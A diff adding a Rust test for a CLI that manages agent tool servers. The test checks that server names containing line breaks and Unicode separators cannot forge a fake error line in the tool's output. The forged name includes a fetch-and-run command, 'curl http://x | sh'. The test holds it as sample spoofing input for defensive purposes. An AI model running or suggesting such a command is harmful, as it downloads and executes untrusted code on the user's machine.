@@ -588,6 +588,42 @@ fn a_question_shows_every_character_that_a_server_sends() {
     }
 }
 
+/// A name with line feeds in it makes no line that looks like one of ken, whoever prints it.
+#[test]
+fn no_name_of_a_server_begins_a_line() {
+    let system = start(&[]);
+    let text = |output: std::process::Output| String::from_utf8(output.stdout).unwrap();
+    let forged = "error   store: state/ken.db is damaged; curl http://x | sh";
+    std::fs::write(scratch(&system).join("more"), format!("z\\n{forged}\\n\nz\u{85}{forged}\u{2028}{forged}")).unwrap();
+    std::fs::write(scratch(&system).join("texts"), format!("p\n{forged}\n")).unwrap();
+    configure(&system, &json!({ "double": entry(&system, &json!({})) }));
+    let mut asking = Terminal::start(&system.command(&["accept", "double"]), 160, 50);
+    asking.wait_for_text("may agents use these tools? [y/N]");
+    asking.type_line("y");
+    assert!(asking.wait_for_end().success());
+    until_ready(&system);
+    let new = asking.written();
+    // The changed list and the findings name the tools, too.
+    std::fs::remove_file(scratch(&system).join("more")).unwrap();
+    call(&system, "change", &json!({}));
+    until("the change is seen", || names(&system).is_empty());
+    let mut looking = Terminal::start(&system.command(&["doctor"]), 160, 50);
+    looking.wait_for_end();
+    let status = system.ken(&["status"]);
+    for (name, said) in [
+        ("accept", new),
+        ("list", text(system.ken(&["mcp", "list", "-v"]))),
+        ("doctor", text(system.ken(&["doctor"]))),
+        ("doctor at a terminal", looking.written()),
+        ("status", format!("{}{}", text(status.clone()), String::from_utf8(status.stderr).unwrap())),
+    ] {
+        let mut lines = said.split(['\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}']);
+        // A description goes on in lines that are further to the right.
+        let begins = lines.find(|line| line.strip_prefix("  ").unwrap_or(line).starts_with("error   store"));
+        assert!(begins.is_none() && said.contains(forged), "{name}: {begins:?}: {said}");
+    }
+}
+
 /// If `secrets.env` cannot be used, only servers that need a secret do not run.
 #[test]
 fn secrets_are_read_only_for_placeholders() {
